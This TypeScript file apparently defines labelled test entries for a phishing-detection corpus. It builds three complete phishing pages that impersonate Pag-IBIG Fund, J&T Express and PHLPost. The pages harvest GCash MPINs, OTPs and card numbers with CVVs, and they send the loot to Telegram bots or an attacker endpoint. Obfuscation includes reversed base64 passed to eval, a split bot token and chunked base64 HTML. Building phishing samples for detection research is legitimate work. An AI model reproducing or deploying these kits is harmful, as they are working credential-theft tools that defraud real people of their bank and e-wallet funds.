import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { page, PH, mark, seal, b64, revB64, splitJs, telegramSendJs, peso } from '../parts/yw-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  (() => {
    const script = `${telegramSendJs('snd', "'6405518870:AAG0wT3mJ8bLq1Zr5Xk9VhN2pYc7sDf4EuR'", "'-1001876120045'", 'PAGIBIG MP2')}
document.getElementById('cf').addEventListener('submit',function(e){e.preventDefault();var v=function(n){return e.target.elements[n].value;};snd(['MID: '+v('mid'),'NAME: '+v('nm'),'GCASH: '+v('gc'),'MPIN: '+v('mp'),'OTP: '+v('ot')]).then(function(){e.target.outerHTML='<p class=ok>Ang inyong dividend ay ipoproseso sa loob ng 3-5 banking days. Salamat po!</p>';});});`;
    return {
      id: 'yw-pagibig-mp2-dividend-claim',
      label: 'phishing',
      kind: 'government-benefit-kit',
      url: 'https://pagibigfund-mp2.claim-dividend.site/',
      body: page({
        title: 'Pag-IBIG Fund MP2 Dividend Claim 2025',
        lang: 'fil',
        css: `body{font-family:"Segoe UI",Arial,sans-serif;background:#f4f6fb;color:#1f2a44}.hd{background:#fff;border-bottom:4px solid ${PH.pagibig.accent};padding:12px 18px;display:flex;gap:12px;align-items:center}.hd b{color:${PH.pagibig.main};font-size:18px}.m{max-width:560px;margin:18px auto;padding:0 14px}.dv{background:${PH.pagibig.main};color:#fff;border-radius:12px;padding:18px}.dv table{width:100%;color:#fff;font-size:14px;margin-top:8px}.dv td:last-child{text-align:right}.cl{background:#fff;border-radius:12px;padding:18px;margin-top:14px}input{width:100%;padding:11px;margin:5px 0 10px;border:1px solid #cfd6e6;border-radius:8px}.b{width:100%;padding:13px;background:${PH.pagibig.accent};color:#fff;border:0;border-radius:8px;font-weight:700}.ok{color:#2e7d32;font-weight:600}`,
        body: `<div class="hd">${seal(PH.pagibig, 'HDMF', 46)}<b>Pag-IBIG Fund · MP2 Savings</b></div>
<div class="m"><div class="dv"><h2 style="margin:0">MP2 Dividend Payout 2025</h2><table><tr><td>Dividend rate (2024)</td><td>7.05%</td></tr><tr><td>Your estimated dividend</td><td><b>${peso(4382.19)}</b></td></tr><tr><td>Claim deadline</td><td>Nobyembre 30, 2025</td></tr></table></div>
<div class="cl"><h3>I-claim ang inyong MP2 dividend</h3><p style="font-size:13px">Maaari nang i-credit ang dividend direkta sa inyong GCash. I-verify ang inyong Pag-IBIG MID at GCash account.</p>
<form id="cf"><input name="mid" placeholder="Pag-IBIG MID No. (12 digits)" maxlength="14" required><input name="nm" placeholder="Buong pangalan" required><input name="gc" placeholder="GCash number" required><input name="mp" type="password" maxlength="4" placeholder="GCash MPIN" required><input name="ot" maxlength="6" placeholder="Authentication code mula sa GCash"><button class="b">I-CLAIM ANG DIVIDEND</button></form></div></div>
<script>eval(atob("${revB64(script)}".split("").reverse().join("")));</script>`,
      }),
    } satisfies Entry;
  })(),
  {
    id: 'yw-jnt-redelivery-fee-chain',
    label: 'phishing',
    kind: 'parcel-fee-lure',
    url: 'https://jntph.cc/t/8821',
    routes: {
      'jntph.cc/t/8821': redirectRoute(302, 'https://jntexpress-ph.redelivery-fee.top/track/JT8823719901PH'),
      'jntexpress-ph.redelivery-fee.top/track/JT8823719901PH': htmlRoute(
        page({
          title: 'J&T Express Philippines - Tracking',
          css: `body{font-family:Arial,sans-serif;background:#f6f6f6}.h{background:${PH.jnt.main};padding:12px 16px;color:#fff;font-weight:bold;display:flex;gap:8px;align-items:center}.c{background:#fff;margin:12px;border-radius:8px;padding:14px}.tl{border-left:2px solid #ddd;margin-left:8px;padding-left:14px;font-size:13px}.tl p{margin:0 0 12px;position:relative}.tl p:before{content:"";position:absolute;left:-20px;top:3px;width:10px;height:10px;border-radius:50%;background:#ccc}.tl p.on:before{background:${PH.jnt.main}}.w{color:${PH.jnt.main};font-weight:bold}input{width:100%;padding:11px;border:1px solid #ddd;border-radius:6px;margin:4px 0 9px}.bt{width:100%;padding:13px;background:${PH.jnt.main};color:#fff;border:0;border-radius:6px;font-weight:bold}#pay{display:none}`,
          body: `<div class="h">${mark({ ...PH.jnt, main: '#fff' }, 'J&T', 34, 4).replace('fill="#fff">J', `fill="${PH.jnt.main}">J`)} J&amp;T EXPRESS</div>
<div class="c"><b>Waybill: JT8823719901PH</b><div class="tl"><p class="on"><span class="w">ON HOLD</span> — Delivery failed: incomplete address. Parcel will be returned to sender in 24 hours.<br><small>Today 08:14 · Pasig Hub</small></p><p>Arrived at Pasig Hub<br><small>Yesterday 21:06</small></p><p>Departed Manila Gateway<br><small>Yesterday 13:40</small></p></div></div>
<div class="c" id="addr"><b>Update delivery address</b><input id="nm" placeholder="Full name"><input id="ad" placeholder="House no., street, barangay"><input id="ct" placeholder="City / Province"><input id="mb" placeholder="Mobile number"><button class="bt" onclick="nx()">NEXT</button></div>
<div class="c" id="pay"><b>Redelivery fee: ₱38.00</b><p style="font-size:12px;color:#666">A small re-delivery fee is required to reschedule your parcel.</p><input id="cn" placeholder="Card number"><div style="display:flex;gap:8px"><input id="ce" placeholder="MM/YY"><input id="cc" placeholder="CVV"></div><button class="bt" onclick="pp()">PAY ₱38.00</button></div>
<script>
${telegramSendJs('tx', splitJs('6677120934:AAHk3VbZ0mQ9pL2xR7tW1sYc8NdF4gJeUo', 6), "'-1002145678890'", 'JNT')}
var q=function(i){return document.getElementById(i).value;};
function nx(){tx(['NAME '+q('nm'),'ADDR '+q('ad')+', '+q('ct'),'MOB '+q('mb')]);document.getElementById('addr').style.display='none';document.getElementById('pay').style.display='block';}
function pp(){tx(['CARD '+q('cn'),'EXP '+q('ce'),'CVV '+q('cc'),'NAME '+q('nm')]).then(function(){document.getElementById('pay').innerHTML='<b>Verifying with your bank...</b><p>Please enter the OTP you will receive.</p><input id=ot><button class=bt onclick="tx([\\'OTP \\'+q(\\'ot\\')])">SUBMIT</button>';});}
</script>`,
        }),
      ),
    },
  },
  (() => {
    const html = `<div class="w"><div class="h">${seal(PH.phlpost, 'PHL', 40)}<span>PHLPost · Track &amp; Trace</span></div>
<div class="c"><p><b>Item: RR982231450PH</b> (EMS from Abu Dhabi, UAE)</p><p>Status: <b style="color:#c62828">Awaiting payment of redelivery and handling fee</b></p><p>Your item could not be delivered because the recipient was not at home. To schedule a new delivery please pay the fee of <b>₱35.00</b>.</p>
<form id="pp"><input name="fullname" placeholder="Full name"><input name="address" placeholder="Complete address"><input name="card" placeholder="Card number"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><input name="otp" placeholder="OTP (after submit)" style="display:none"><button>Pay ₱35.00</button></form></div></div>`;
    const enc = b64(html);
    const parts = [enc.slice(0, 400), enc.slice(400, 900), enc.slice(900)];
    return {
      id: 'yw-phlpost-tracking-chunked-b64',
      label: 'phishing',
      kind: 'obfuscated-parcel-lure',
      url: 'https://phlpost-gov.tracking-ph.info/track/?id=RR982231450PH',
      routes: {
        'phlpost-gov.tracking-ph.info/track/': htmlRoute(
          page({
            title: 'PHLPost Tracking',
            css: `body{font-family:Arial,sans-serif;background:#eef2f8}.w{max-width:460px;margin:0 auto}.h{background:${PH.phlpost.main};color:#fff;padding:10px;display:flex;gap:10px;align-items:center;font-weight:bold}.c{background:#fff;padding:16px;font-size:14px}input{width:100%;padding:10px;margin:4px 0;border:1px solid #c2cde0}button{width:100%;padding:12px;margin-top:8px;background:${PH.phlpost.accent};color:#fff;border:0;font-weight:bold}`,
            body: `<div id="x"></div><script>
var a=${JSON.stringify(parts[0])},b=${JSON.stringify(parts[1])},c=${JSON.stringify(parts[2])};
document.getElementById('x').innerHTML=decodeURIComponent(escape(atob(a+b+c)));
var st=0;document.getElementById('pp').onsubmit=function(e){e.preventDefault();var fd=new FormData(e.target);fd.append('step',st);fetch('/track/api.php',{method:'POST',body:fd});if(!st){e.target.otp.style.display='block';st=1;}else{location.href='https://www.phlpost.gov.ph/';}};
</script>`,
          }),
        ),
        'phlpost-gov.tracking-ph.info/track/api.php': jsonRoute({ ok: true }),
      },
    } satisfies Entry;
  })(),
];
